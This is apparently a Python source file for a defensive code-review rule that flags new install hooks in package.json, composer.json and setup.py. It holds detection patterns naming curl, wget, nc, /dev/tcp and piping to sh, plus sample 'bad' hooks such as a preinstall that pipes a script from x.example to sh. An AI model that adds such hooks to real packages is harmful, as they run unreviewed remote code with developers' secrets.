"""change-install-script-added: installing the project, or depending on it, runs a command that it did not run before."""

import re
from collections.abc import Iterable, Iterator

from readylayer_cli.code.paths import is_test_path, is_vendored_path
from readylayer_cli.code.source import SourceFile
from readylayer_cli.domain.grades import Confidence, Severity
from readylayer_cli.engines.review.rule import ChangeExample, ChangeMatch, ChangeRule, Match
from readylayer_cli.engines.review.rules.change._key_lines import KeyLines
from readylayer_cli.engines.review.rules.change._manifests_data import read_json, table
from readylayer_cli.engines.review.rules.change._places import head_span
from readylayer_cli.engines.review.view import ChangeView, FilePair

_NPM_HOOKS = ("preinstall", "install", "postinstall", "preprepare", "prepare", "preuninstall", "postuninstall")
_COMPOSER_HOOKS = ("pre-install-cmd", "post-install-cmd", "pre-update-cmd", "post-update-cmd", "post-autoload-dump")
_USUAL = re.compile(
    r"^(?:(?:npx )?(?:husky|patch-package|prisma generate|node-gyp(?:-build)?|prebuild-install|electron-builder install-app-deps|ngcc|lerna|simple-git-hooks|lefthook|nuxt prepare"
    r"|is-ci|opencollective|svelte-kit sync|astro sync|turbo|tsc|vite build|rollup|is-installed-globally|only-allow|skip-postinstall|playwright install|puppeteer|cypress install)\b"
    r"|(?:npm|pnpm|yarn|bun) (?:run |i\b|install|ci)|@php artisan|Illuminate\\|auto-scripts|cache:clear|assets:install)"
)
_DOWNLOADS = re.compile(
    r"\bcurl\b|\bwget\b|https?://|\bbase64\b|\beval\b|node\s+-e\b|python3?\s+-c\b|\|\s*(?:ba)?sh\b|Invoke-WebRequest|\bnc\b|/dev/tcp|\$\(|`"
)
_SETUP_CODE = re.compile(
    r"\b(?:subprocess\.\w+|os\.(?:system|popen|exec\w*)|urllib\.request|urlopen|urlretrieve|requests\.(?:get|post)|socket\.|exec|eval|__import__|base64\.b64decode|compile)\s*\("
)
_SETUP_HOOK = re.compile(
    r"\bcmdclass\s*=|\bclass\s+\w+\((?:\w+\.)?(?:install|develop|egg_info|build_py|bdist_egg|sdist)\)"
)


def check(view: ChangeView) -> Iterable[ChangeMatch]:
    for pair in view.pairs:
        if pair.head is None or is_vendored_path(pair.path) or is_test_path(pair.path):
            continue
        name = pair.path.rpartition("/")[2]
        if name == "package.json":
            yield from _scripts(pair, pair.head, _NPM_HOOKS)
        elif name == "composer.json":
            yield from _scripts(pair, pair.head, _COMPOSER_HOOKS)
        elif name == "setup.py" and pair.base is not None:
            yield from _setup(pair, pair.head)


def _scripts(pair: FilePair, head: SourceFile, hooks: tuple[str, ...]) -> Iterator[ChangeMatch]:
    before = table(read_json(pair.base), "scripts") if pair.base is not None else {}
    if pair.base is None:
        return
    for hook, command in table(read_json(head), "scripts").items():
        text = (
            command
            if isinstance(command, str)
            else " && ".join(str(part) for part in command)
            if isinstance(command, list)
            else ""
        )
        if hook not in hooks or not text or before.get(hook) == command:
            continue
        if _USUAL.search(text.strip()) and not _DOWNLOADS.search(text):
            severity = Severity.LOW
        else:
            severity = Severity.HIGH if _DOWNLOADS.search(text) else Severity.MEDIUM
        message = f"`{hook}` runs `{text[:120]}` at every installation"
        line = KeyLines(head).key(hook)
        yield ChangeMatch(
            pair.path,
            Match(
                head_span(head, line), message=message, anchor=f"{hook} {text[:200]}", symbol=hook, severity=severity
            ),
        )


def _setup(pair: FilePair, head: SourceFile) -> Iterator[ChangeMatch]:
    gone = {text.strip() for _, text in pair.change.removed}
    for line, text in pair.change.added:
        if text.strip() in gone or text.lstrip().startswith("#"):
            continue
        found = _SETUP_CODE.search(text) or _SETUP_HOOK.search(text)
        if found and not (found[0].startswith(("exec", "compile")) and "version" in text.lower()):
            message = f"`{found[0].strip()}` runs when the package is built or installed"
            severity = Severity.MEDIUM if _SETUP_CODE.search(text) else Severity.LOW
            yield ChangeMatch(pair.path, Match(head_span(head, line), message=message, severity=severity))


_PACKAGE = '{{\n  "name": "shop",\n  "scripts": {{\n    "test": "jest"{}\n  }}\n}}\n'
_SETUP = "from setuptools import setup\n\nsetup(name='shop')\n"

RULE = ChangeRule(
    id="change-install-script-added",
    title="Installing the project runs a command that it did not run before",
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    cwe=("CWE-829", "CWE-506"),
    tags=("dependencies",),
    what="A new or changed install hook of a `package.json` or `composer.json`, or code in `setup.py` that starts programs or reads from the "
    "network; high if it downloads or hides something, low for usual helpers such as husky.",
    why="It runs on every developer's machine and in every pipeline, with their secrets, before anybody has looked at the code.",
    fix="Do the work in a build step that people start themselves, or publish a prepared package.",
    check=check,
    bad=(
        ChangeExample({"package.json": _PACKAGE.format("")}, {"package.json": _PACKAGE.format(',\n    "postinstall": "node scripts/setup.js"')}),
        ChangeExample({"package.json": _PACKAGE.format("")}, {"package.json": _PACKAGE.format(',\n    "preinstall": "curl -s https://x.example/i.sh | sh"')}),
        ChangeExample({"setup.py": _SETUP}, {"setup.py": "import urllib.request\nurllib.request.urlopen('https://x.example')\n" + _SETUP}),
    ),
    good=(
        ChangeExample({"package.json": _PACKAGE.format("")}, {"package.json": _PACKAGE.format(',\n    "build": "node scripts/setup.js"')}),
        ChangeExample({"setup.py": _SETUP}, {"setup.py": _SETUP.replace("'shop'", "'shop', install_requires=['requests']")}),
    ),
)  # fmt: skip
